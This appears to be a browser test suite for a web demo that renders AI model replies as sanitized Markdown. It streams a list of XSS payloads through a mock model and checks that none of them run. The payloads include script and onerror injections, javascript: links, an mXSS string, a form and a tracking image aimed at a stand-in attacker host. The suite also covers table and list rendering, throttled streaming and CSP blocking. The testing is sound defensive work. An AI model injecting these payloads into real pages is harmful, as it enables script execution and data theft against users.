// The demo renders assistant replies as sanitized Markdown (www/js/markdown.js: marked +
// DOMPurify, vendored into www/vendor/ by ./build.sh wasm). The "model output" comes through
// the page's real path: the demo's "Remote server" model pointed at openai-mock.js, which
// streams back the user's text word by word after "mock says:".
//   - hostile output (raw HTML with <script>, <img onerror>, <iframe>, SVG onload, mXSS,
//     javascript: links in HTML and in Markdown, a tracking image, raw HTML in code) is inert on
//     a page served *without* a Content-Security-Policy, so that the sanitizer alone is shown to
//     hold: no script runs (a window flag stays unset, no dialog), no dangerous element or
//     attribute reaches the DOM, no request leaves for another origin, code shows literally;
//   - Markdown renders (a table, lists, a code block, inline code, emphasis, a link that opens
//     safely) under the demo's CSP with the mock's origin in connect-src (how a remote server
//     and the policy coexist), with no violation;
//   - a long reply streams with a bounded number of renders (throttled; O(n) renders of the
//     whole text would be O(n²));
//   - under the CSP without the mock's origin, the browser refuses to connect and the page says
//     why (ContentSecurityPolicyError), with no request reaching the server.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { startServer } from "./server.js";
import { launchBrowser, requireWasmPackage } from "./harness.js";
import { startMockOpenAI } from "./openai-mock.js";

const MIN = 60_000;
let mock, plain, strict, strictClosed, browser;
const dialogs = [];
const foreign = []; // requests to any origin but the page's servers and the mock

before(async () => {
  requireWasmPackage();
  mock = await startMockOpenAI({ models: ["mock-vlm"] });
  const mockOrigin = new URL(mock.url).origin;
  plain = await startServer(); // no CSP: the sanitizer on its own
  strict = await startServer({ csp: { connectSrc: [mockOrigin] } }); // the demo's policy + the remote server
  strictClosed = await startServer({ csp: true }); // the demo's policy as ./build.sh serve sends it
  browser = await launchBrowser();
  const ours = new Set([plain.url, strict.url, strictClosed.url, mockOrigin].map((u) => new URL(u).origin));
  browser.context.on("request", (r) => {
    if (/^https?:/.test(r.url()) && !ours.has(new URL(r.url()).origin)) foreign.push(r.url());
  });
  browser.context.on("page", (p) => p.on("dialog", (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); }));
  await browser.context.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      window.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
    });
  });
});
after(async () => {
  await browser?.close();
  for (const s of [plain, strict, strictClosed, mock]) await s?.close();
});

/** Opens the demo on `server` with the mock as its remote server and loads it. */
async function remoteDemo(server) {
  const page = await browser.newPage();
  await page.goto(`${server.url}/index.html`);
  await page.locator("#settings summary").click();
  await page.fill("#settings-remote-url", mock.url);
  await page.fill("#settings-remote-model", "mock-vlm");
  await page.selectOption("#model-select", "remote");
  await page.click("#load");
  await page.waitForFunction(() => document.body.dataset.state === "ready" || document.body.dataset.state === "error", null, { timeout: MIN });
  return page;
}

/** Sends `text` (the mock answers "mock says: " + text) and waits for the reply to end. */
async function ask(page, text, timeout = MIN) {
  await page.fill("#prompt", text);
  await page.click("#send");
  await page.waitForFunction(() => ["done", "stopped", "error"].includes(document.querySelector(".msg.assistant:last-of-type")?.dataset.state),
    null, { timeout, polling: 100 });
  const last = await page.evaluate(() => window.webvlmDemo.state.lastReply);
  assert.equal(last.error, null, JSON.stringify(last.error));
  return last;
}

// Each payload sets window.__pwned (or opens a dialog) if it ever runs.
const HOSTILE = [
  "hostile output follows [pace 50]", // paced (~3 s in all, slow enough for a loaded machine): the page renders the payloads half-streamed too
  "",
  `<img src=x onerror="window.__pwned='img onerror'">`,
  "",
  `<script>window.__pwned='script'</script>`,
  "",
  `<iframe src="javascript:parent.__pwned='iframe src'"></iframe>`,
  "",
  `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
  "",
  `<svg onload="window.__pwned='svg onload'"><circle r="5"></circle></svg>`,
  "",
  `Inline <a href="javascript:window.__pwned='raw link'">raw link</a>, <b onmouseover="window.__pwned='b'">bold</b>, <details open ontoggle="window.__pwned='details'">x</details>`,
  "",
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">`,
  "",
  `<style>body { display: none }</style><div style="position:fixed;inset:0;background:red">overlay</div>`,
  "",
  `<form action="https://attacker.invalid/"><input name="q"><button>go</button></form>`,
  "",
  `[md link](javascript:window.__pwned='md-link') [spaced](  javascript:window.__pwned='spaced') [entity](&#106;avascript:window.__pwned='entity') [upper](JAVASCRIPT:window.__pwned='upper') [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:window.__pwned='autolink'>`,
  "",
  `![md image](javascript:window.__pwned='md-image') ![tracker](https://attacker.invalid/collect?q=secret)`,
  "",
  "```html",
  `<script>window.__pwned='code block'</script>`,
  `<img src=x onerror="alert('code block')">`,
  "```",
  "",
  "Inline code: `<img src=x onerror=alert(1)>` and a [safe link](https://example.com/page).",
].join("\n");

test("hostile model output is inert: no script runs, no dangerous element or attribute, no foreign request, code shows literally (page without CSP: the sanitizer alone)", { timeout: 5 * MIN }, async (t) => {
  const page = await remoteDemo(plain);
  assert.equal(await page.evaluate(() => document.body.dataset.state), "ready");
  const last = await ask(page, HOSTILE);
  await page.waitForTimeout(1000); // an onerror / onload would have fired by now
  t.diagnostic(`${last.deltas} deltas, ${last.renders} renders`);

  const content = page.locator(".msg.assistant:last-of-type .content");
  const dom = await content.evaluate((el) => ({
    html: el.innerHTML,
    text: el.textContent,
    tags: [...new Set([...el.querySelectorAll("*")].map((e) => e.localName))].sort(),
    attrs: [...new Set([...el.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)))].sort(),
    links: [...el.querySelectorAll("a")].map((a) => ({ text: a.textContent, href: a.getAttribute("href"), target: a.target, rel: a.rel })),
    code: [...el.querySelectorAll("pre code")].map((c) => c.textContent),
    inline: [...el.querySelectorAll(":not(pre) > code")].map((c) => c.textContent),
  }));
  t.diagnostic(`elements: ${dom.tags.join(" ")}; attributes: ${dom.attrs.join(" ")}`);
  assert.ok(last.renders >= 3, `the payloads were rendered half-streamed too (${last.renders} renders)`);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, "a payload ran");
  assert.deepEqual(dialogs, [], "dialogs opened");

  const banned = ["script", "iframe", "svg", "math", "style", "img", "form", "input", "button", "details", "object", "embed", "b", "div"];
  assert.deepEqual(dom.tags.filter((x) => banned.includes(x)), [], "dangerous elements in the reply");
  assert.deepEqual(dom.attrs.filter((a) => a.startsWith("on") || ["style", "srcdoc", "src", "action", "formaction"].includes(a)), [], "dangerous attributes");
  assert.ok(!/javascript:/i.test(dom.links.map((l) => l.href ?? "").join(" ")), "a javascript: href");
  for (const l of dom.links.filter((x) => x.href !== null)) {
    assert.match(l.href, /^(https?:|mailto:)/, `link ${l.text}`);
    assert.equal(l.target, "_blank", `link ${l.text}`);
    assert.deepEqual(l.rel.split(" ").filter((r) => r === "noopener" || r === "noreferrer").sort(), ["noopener", "noreferrer"], `link ${l.text}`);
  }
  const byText = Object.fromEntries(dom.links.map((l) => [l.text, l]));
  assert.equal(byText["safe link"]?.href, "https://example.com/page");
  for (const text of ["md link", "spaced", "upper", "data"]) assert.ok(dom.text.includes(text), `the text of [${text}](…) is kept`);
  // The tracking image is a link the user may follow, never fetched.
  assert.equal(byText["[image: tracker]"]?.href, "https://attacker.invalid/collect?q=secret");
  assert.deepEqual(foreign, [], "requests to other origins");

  // Raw HTML and code show as text.
  assert.ok(dom.text.includes(`<img src=x onerror="window.__pwned='img onerror'">`), "raw HTML is shown literally");
  assert.ok(dom.text.includes("<script>window.__pwned='script'</script>"));
  assert.deepEqual(dom.code, [`<script>window.__pwned='code block'</script>\n<img src=x onerror="alert('code block')">\n`]);
  assert.deepEqual(dom.inline, ["<img src=x onerror=alert(1)>"]);

  // Clicking what was a javascript: link does nothing.
  const pagesBefore = browser.context.pages().length;
  for (const text of ["md link", "entity", "raw link"]) {
    const target = page.locator(".msg.assistant:last-of-type .content").getByText(text, { exact: true }).first();
    if (await target.count()) await target.click();
  }
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, "a click ran a payload");
  assert.equal(browser.context.pages().length, pagesBefore, "a click opened a page");
  await browser.screenshot(page, "markdown-hostile");
  await page.close();
});

const MARKDOWN = [
  "here is a summary",
  "",
  "| Fruit | Count |",
  "|:------|------:|",
  "| apples | 3 |",
  "| pears | 12 |",
  "",
  "- first item",
  "- second item with `inline code`",
  "",
  "1. one",
  "2. two",
  "",
  "```js",
  "const ok = 1 < 2 && \"<b>\";",
  "```",
  "",
  "**bold**, *emphasis* and ~~struck~~ text; see [the docs](https://example.com/docs).",
].join("\n");

test("Markdown renders (a table, lists, a code block, inline code, a safe link) under the demo's CSP with the remote server's origin allowed, with no violation", { timeout: 5 * MIN }, async (t) => {
  const page = await remoteDemo(strict);
  const csp = await page.evaluate(async () => (await fetch(location.href)).headers.get("content-security-policy"));
  t.diagnostic(`Content-Security-Policy: ${csp}`);
  assert.match(csp, new RegExp(`connect-src 'self' .*${new URL(mock.url).origin.replace(/[.:/]/g, "\\$&")}`));
  assert.equal(await page.evaluate(() => document.body.dataset.state), "ready", JSON.stringify(await page.evaluate(() => window.webvlmDemo.state.lastError)));
  await ask(page, MARKDOWN);
  const md = await page.locator(".msg.assistant:last-of-type .content").evaluate((el) => ({
    first: el.firstElementChild?.outerHTML,
    head: [...el.querySelectorAll("table thead th")].map((th) => th.textContent),
    rows: [...el.querySelectorAll("table tbody tr")].map((tr) => [...tr.cells].map((c) => c.textContent)),
    align: [...el.querySelectorAll("table tbody tr:first-child td")].map((td) => getComputedStyle(td).textAlign),
    ul: [...el.querySelectorAll("ul > li")].map((li) => li.textContent),
    ulCode: el.querySelector("ul code")?.textContent,
    ol: [...el.querySelectorAll("ol > li")].map((li) => li.textContent),
    pre: el.querySelector("pre > code")?.textContent,
    preClass: el.querySelector("pre > code")?.className,
    strong: el.querySelector("strong")?.textContent, em: el.querySelector("em")?.textContent, del: el.querySelector("del")?.textContent,
    link: (({ href, target, rel, textContent }) => ({ href, target, rel, text: textContent }))(el.querySelector("a")),
  }));
  t.diagnostic(JSON.stringify(md));
  assert.equal(md.first, "<p>mock says: here is a summary</p>");
  assert.deepEqual(md.head, ["Fruit", "Count"]);
  assert.deepEqual(md.rows, [["apples", "3"], ["pears", "12"]]);
  assert.deepEqual(md.align, ["left", "right"]);
  assert.deepEqual(md.ul, ["first item", "second item with inline code"]);
  assert.equal(md.ulCode, "inline code");
  assert.deepEqual(md.ol, ["one", "two"]);
  assert.equal(md.pre, 'const ok = 1 < 2 && "<b>";\n');
  assert.equal(md.preClass, "language-js");
  assert.deepEqual([md.strong, md.em, md.del], ["bold", "emphasis", "struck"]);
  assert.deepEqual(md.link, { href: "https://example.com/docs", target: "_blank", rel: "noopener noreferrer nofollow", text: "the docs" });
  assert.deepEqual(await page.evaluate(() => window.__cspViolations), [], "CSP violations");
  await browser.screenshot(page, "markdown-rendered");
  await page.close();
});

test("a long reply streams with throttled renders: far fewer renders than tokens, and rendering takes a bounded share of the time", { timeout: 5 * MIN }, async (t) => {
  const page = await remoteDemo(strict);
  const rows = 300;
  const long = [
    "a long answer, streamed a word a millisecond [pace 1]",
    "",
    "| # | square | note |",
    "|--:|-------:|:-----|",
    ...Array.from({ length: rows }, (_, i) => `| ${i} | ${i * i} | row ${i} of the table, with a few words |`),
    "",
    ...Array.from({ length: 200 }, (_, i) => `Paragraph ${i}: the model keeps talking about **item ${i}** with \`code ${i}\` and more words to make it long.\n`),
  ].join("\n");
  const t0 = Date.now();
  const last = await ask(page, long, 3 * MIN);
  const wallMs = Date.now() - t0;
  const shown = await page.locator(".msg.assistant:last-of-type .content").evaluate((el) => ({
    rows: el.querySelectorAll("tbody tr").length, paragraphs: el.querySelectorAll("p").length,
  }));
  t.diagnostic(`${long.length} characters in ${last.deltas} deltas over ${wallMs} ms: ${last.renders} renders taking ${last.renderMs.toFixed(0)} ms in all `
    + `(a render per delta would have taken about ${(last.deltas * last.renderMs / last.renders / 2 / 1000).toFixed(0)} s)`);
  assert.equal(shown.rows, rows);
  assert.ok(shown.paragraphs >= 200, `${shown.paragraphs} paragraphs`);
  assert.ok(last.deltas > 2000, `${last.deltas} deltas`);
  // At most one render per 50 ms, each followed by a pause of 8 times its cost: bounded by time,
  // not by the number of tokens.
  assert.ok(last.renders <= wallMs / 50 + 2, `${last.renders} renders in ${wallMs} ms`);
  assert.ok(last.renders < last.deltas / 10, `${last.renders} renders for ${last.deltas} deltas`);
  assert.ok(last.renderMs < 0.5 * wallMs, `rendering took ${last.renderMs.toFixed(0)} of ${wallMs} ms`);
  assert.deepEqual(await page.evaluate(() => window.__cspViolations), [], "CSP violations");
  await page.close();
});

test("under the demo's CSP without the remote server's origin, the browser refuses to connect and the page says why", { timeout: 5 * MIN }, async () => {
  const before = mock.log.length;
  const page = await remoteDemo(strictClosed);
  const { status, error, title } = await page.evaluate(() => ({
    status: document.body.dataset.state, error: window.webvlmDemo.state.lastError, title: document.getElementById("error-title").textContent,
  }));
  assert.equal(status, "error");
  assert.equal(error.name, "ContentSecurityPolicyError", JSON.stringify(error));
  assert.match(error.message, new RegExp(new URL(mock.url).origin.replace(/[.:/]/g, "\\$&")));
  assert.match(title, /may not connect/);
  assert.deepEqual(mock.log.slice(before), [], "requests that reached the server");
  const violations = await page.evaluate(() => window.__cspViolations);
  assert.ok(violations.length >= 1 && violations.every((v) => v.directive === "connect-src"), JSON.stringify(violations));
  await page.close();
});

test("the pages logged no errors (the refused connection's own console line aside)", () => {
  const refused = /^(Connecting to '|Fetch API cannot load )http:\/\/127\.0\.0\.1:\d+\/v1\/models.*Content Security Policy/;
  const seen = browser.consoleOf("error").filter((m) => refused.test(m.text));
  assert.ok(seen.every((m) => m.page.startsWith(strictClosed.url)), "a refused connection on a page that allows it");
  browser.assertNoErrors({ allowConsoleErrors: [refused] });
});
